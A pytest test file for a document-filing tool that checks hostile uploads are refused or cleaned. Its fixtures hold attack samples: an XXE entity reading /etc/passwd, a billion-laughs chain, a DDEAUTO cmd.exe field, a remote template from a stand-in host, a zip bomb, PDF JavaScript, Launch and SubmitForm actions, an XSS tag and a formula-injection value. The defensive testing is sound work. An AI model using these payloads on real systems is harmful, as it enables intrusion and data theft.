"""Word files, PDFs, pictures and texts from outside that mean ill: refused, or made harmless."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace

import docx
import pikepdf
import pytest
from PIL import Image
from tests.filing.seeded import template_of

from motif.errors import ParameterError
from motif.filing.bag import build_file, files_in
from motif.filing.dossier import Dossier, StoredFile, Words
from motif.filing.form import form_html
from motif.filing.letters import draft_letter
from motif.filing.papers import read_paper
from motif.filing.setting import sheet_pdf
from motif.filing.texts import text_of_file
from motif.filing.values import letter_values
from motif.filing.word import fill_template, read_word, sheet_of, word_bytes, word_text
from sample_filing import AT, SAMPLES, sample_dossier

DOSSIER = sample_dossier()
VALUES = letter_values(DOSSIER, DOSSIER.letters[0])
NIK = "3505012304990007"
PAPER = "1-unggah/01-akta-pendirian"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word_with(changes: dict[str, tuple[bytes, bytes]], **more: bytes) -> bytes:
    """Return a Word file in whose parts something was replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template_of(["Judul: {{judul}}"]))) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in source.namelist():
            data = source.read(name)
            if name in changes:
                assert changes[name][0] in data
                data = data.replace(*changes[name], 1)
            made.writestr(name, data)
        for name, data in more.items():
            made.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> dict[str, tuple[bytes, bytes]]:
    made = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": (b"</Relationships>", f"{made}</Relationships>".encode())}


def in_body(text: str) -> dict[str, tuple[bytes, bytes]]:
    return {"word/document.xml": (b"<w:sectPr", text.encode() + b"<w:sectPr")}


def entity(declared: str) -> bytes:
    whole = f"<!DOCTYPE x [{declared}]><w:document".encode()
    return word_with({"word/document.xml": (b"<w:document", whole)})


LAUGHS = "<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
WORD_FILES = {
    "entity of a file": entity("<!ENTITY e SYSTEM 'file:///etc/passwd'>"),
    "entities of entities": entity(LAUGHS),
    "template elsewhere": word_with(relation("attachedTemplate", "http://rekaan.example/t.dotm")),
    "picture elsewhere": word_with(relation("image", "http://rekaan.example/t.png")),
    "embedded object": word_with(
        relation("oleObject", "embeddings/a.bin", "Internal"), word__embeddings__a=b"MZ"
    ),
    "field that runs": word_with(
        in_body('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText></w:r></w:p>')
    ),
    "field that loads": word_with(
        in_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; "/></w:p>')
    ),
    "zip bomb": word_with({}, word__media__a=b"0" * 50_000_001),
}


@pytest.mark.parametrize("data", WORD_FILES.values(), ids=WORD_FILES)
def test_a_word_file_that_loads_runs_or_swells_is_refused(data: bytes) -> None:
    with pytest.raises(ParameterError, match=r"surat\.docx") as caught:
        read_word(data, "surat.docx")
    assert caught.value.hint


@pytest.mark.parametrize(
    "text",
    ["{{judul.__class__}}", "{{ 7*7 }}", "{% for a in b %}", "{{judul", "{{{{judul}}}}", "{{" + "a " * 9999],
)
def test_what_is_no_field_of_a_template_is_refused(text: str) -> None:
    document = docx.Document(io.BytesIO(template_of([text])))
    with pytest.raises(ParameterError, match="the template has"):
        fill_template(document, VALUES)


def test_a_title_that_looks_like_a_field_is_kept_as_it_is() -> None:
    document = docx.Document(io.BytesIO(template_of(["Judul: {{judul}}"])))
    fill_template(document, VALUES | {"judul": "{{pencipta}} {% x %}"})
    assert document.paragraphs[0].text == "Judul: {{pencipta}} {% x %}"


CONTROL = "<w:sdt><w:sdtContent><w:p><w:r><w:t>Kain {{judul}}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
BOX = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
    "<w:p><w:r><w:t>Kain {{judul}}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape>"
    "</w:pict></w:r></w:p>"
)
LINK = "<w:p><w:hyperlink><w:r><w:t>Kain {{judul}}</w:t></w:r></w:hyperlink></w:p>"
CHANGED = (
    "<w:p><w:ins><w:r><w:t>Kain {{judul}}</w:t></w:r></w:ins>"
    "<w:del><w:r><w:delText>canary</w:delText></w:r></w:del></w:p>"
)


@pytest.mark.parametrize("text", [CONTROL, BOX, LINK, CHANGED], ids=["control", "box", "link", "change"])
def test_text_anywhere_in_a_template_is_filled_and_reaches_the_pdf(text: str) -> None:
    document = read_word(word_with(in_body(text)), "surat.docx")
    fill_template(document, VALUES)
    assert "Kain Turi Gerimis Resa" in word_text(document)
    pdf = text_of_file("a.pdf", sheet_pdf(sheet_of(document, "Surat", ""), AT))
    assert "Kain Turi Gerimis Resa" in pdf
    assert b"canary" not in word_bytes(document, "Surat", AT)


def test_the_company_of_who_wrote_the_template_does_not_leave() -> None:
    data = word_with({"docProps/app.xml": (b"</Properties>", b"<Company>Canary</Company></Properties>")})
    made = word_bytes(read_word(data, "a.docx"), "Surat", AT)
    with zipfile.ZipFile(io.BytesIO(made)) as file:
        assert not any(b"Canary" in file.read(name) for name in file.namelist())


def with_paper(name: str, data: bytes) -> Dossier:
    """Return a filing with one paper that was put in, and nothing else that takes long."""
    stored = StoredFile(name=name, data=data, label=Words(id="", en=""))
    rows = tuple(replace(row, stored=(stored,)) for row in DOSSIER.files if row.key == "akta_pendirian")
    return replace(DOSSIER, letters=(), files=rows)


def pdf_with(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    change(document)
    document.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def action(**fields: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(**fields)  # type: ignore[arg-type]

    return change


def annotation(**fields: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **fields)  # type: ignore[arg-type]
        if "FS" in fields:
            file = pikepdf.Stream(document, b"MZ", Type=pikepdf.Name.EmbeddedFile)
            note.FS = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=file))
        document.pages[0].Annots = pikepdf.Array([note])

    return change


def author(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = f"NIK {NIK}"


SCRIPT, ATTACHED, NUMBER = "script in a PDF", "attachment in a PDF", "NIK in a file"
PDFS = {
    "script": (action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"), SCRIPT),
    "program": (action(S=pikepdf.Name.Launch, F="a.exe"), SCRIPT),
    "form that is sent": (action(S=pikepdf.Name.SubmitForm, F="http://rekaan.example"), SCRIPT),
    "file on a page": (annotation(Subtype=pikepdf.Name.FileAttachment, FS=None), ATTACHED),
    "number in a note": (annotation(Subtype=pikepdf.Name.Text, Contents=f"NIK {NIK}"), NUMBER),
    "number in the properties": (author, NUMBER),
}


@pytest.mark.parametrize(("change", "named"), PDFS.values(), ids=PDFS)
def test_what_is_hidden_in_a_pdf_is_named(change: Callable[[pikepdf.Pdf], None], named: str) -> None:
    built = build_file(with_paper("akta.pdf", pdf_with(change)))
    assert [(each.file, each.what.en) for each in built.mismatches] == [(f"{PAPER}.pdf", named)]


@pytest.mark.parametrize("packed", [False, True])
def test_camera_data_leave_a_scan_however_its_photo_is_packed(packed: bool) -> None:
    exif, taken = Image.Exif(), io.BytesIO()
    exif[0x010F] = "Canary Camera"
    with Image.open(SAMPLES / "ciprat_0014.jpg") as photo:
        photo.resize((60, 60)).save(taken, "JPEG", exif=exif)
    names = [pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode][not packed :]

    def change(document: pikepdf.Pdf) -> None:
        data = zlib.compress(taken.getvalue()) if packed else taken.getvalue()
        image = pikepdf.Stream(
            document,
            data,
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=60,
            Height=60,
            ColorSpace=pikepdf.Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=pikepdf.Array(names),
        )
        image.Metadata = pikepdf.Stream(document, b"Canary", Type=pikepdf.Name.Metadata)
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im=image))

    built = build_file(with_paper("akta.pdf", pdf_with(change)))
    made = files_in(built.data)[f"{PAPER}.pdf"]
    with pikepdf.open(io.BytesIO(made)) as document:
        (image,) = document.pages[0].images.values()
        assert b"Canary" not in image.read_raw_bytes()
        assert "/Metadata" not in image
        assert pikepdf.PdfImage(image).as_pil_image().size == (60, 60)
    assert built.mismatches == ()


def test_a_locked_pdf_is_named() -> None:
    locked = pdf_with(author, encryption=pikepdf.Encryption(user="x", owner="y"))
    (found,) = build_file(with_paper("akta.pdf", locked)).mismatches
    assert found.what.en == "damaged or locked file"


@pytest.mark.parametrize("seed", range(0, 240, 48))
def test_a_damaged_pdf_never_ends_the_build(seed: int) -> None:
    whole = bytearray(pdf_with(author, object_stream_mode=pikepdf.ObjectStreamMode.disable))
    for place in range(seed, len(whole), 97):
        whole[place] = (whole[place] * 7 + seed) % 256
    for data in (bytes(whole), bytes(whole[: 300 + seed])):
        try:
            read_paper(data)
        except ParameterError as error:
            assert error.hint
        assert files_in(build_file(with_paper("akta.pdf", data)).data)[f"{PAPER}.pdf"]


@pytest.mark.parametrize("data", [b"", b"text", b"%PDF-1.4", b"\x89PNG\r\n\x1a\n"])
def test_a_picture_that_is_none_is_left_out_and_said(data: bytes) -> None:
    parts = files_in(build_file(with_paper("akta.jpg", data)).data)
    assert f"{PAPER}.jpg" not in parts
    said = " ".join(text_of_file("a.pdf", parts["0-periksa.pdf"]).split())
    assert "akta.jpg tidak dimasukkan" in said


def test_a_letter_that_is_a_picture_is_written_anew_and_not_said_to_agree() -> None:
    exif, taken = Image.Exif(), io.BytesIO()
    exif[0x010F] = "Canary Camera"
    with Image.open(SAMPLES / "ciprat_0014.jpg") as photo:
        photo.save(taken, "PNG", exif=exif)
    parts = files_in(build_file(with_paper("akta.png", taken.getvalue())).data)
    assert not any(b"Canary" in data for data in parts.values())
    with Image.open(io.BytesIO(parts[f"{PAPER}.jpg"])) as picture:
        assert picture.format == "JPEG"
    said = " ".join(text_of_file("a.pdf", parts["0-periksa.pdf"]).split())
    assert "berkas tanpa teks" in said.casefold() or "tanpa teks" in said


TEXTS = [
    '#eval("1+1") `x` @ref $y$ <a>',
    "</script><script>alert(1)</script>",
    "a\u202eb\x07c\ufffe",
    "=cmd|' /c'!A1",
]


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_is_a_text_in_every_file(text: str) -> None:
    people = (replace(DOSSIER.people[0], name=text), *DOSSIER.people[1:])
    fields = tuple(replace(field, value=text) for field in DOSSIER.fields[:3])
    dossier = replace(
        DOSSIER, people=people, fields=fields, work=replace(DOSSIER.work, title=text, description=text)
    )
    sheet = draft_letter(dossier, dossier.letters[0])
    assert sheet is not None
    assert sheet_pdf(sheet, AT).startswith(b"%PDF")
    page = form_html(dossier, [(text, text)]).decode()
    assert "<script>alert" not in page and "\u202e" not in page and "\x07" not in page
    letter = read_word(template_of(["{{judul}}", "{{pencipta_1_nama}}"]), "a.docx")
    fill_template(letter, letter_values(dossier, dossier.letters[0]))
    assert text_of_file("a.docx", word_bytes(letter, "Surat", AT))


@pytest.mark.parametrize("place", ["check", "letter", "storage", "office"])
def test_an_identity_number_anywhere_in_the_record_is_refused(place: str) -> None:
    said = Words(id=f"NIK {NIK}", en="")
    check = DOSSIER.checks[0]
    changed = {
        "check": {"checks": (replace(check, answer=replace(check.answer, reason=said)),)},
        "letter": {"letters": (replace(DOSSIER.letters[0], place=said.id),)},
        "storage": {"work": replace(DOSSIER.work, storage=said.id)},
        "office": {"office": said.id},
    }[place]
    with pytest.raises(ParameterError, match="identity number") as caught:
        build_file(replace(DOSSIER, **changed))
    assert NIK not in str(caught.value)
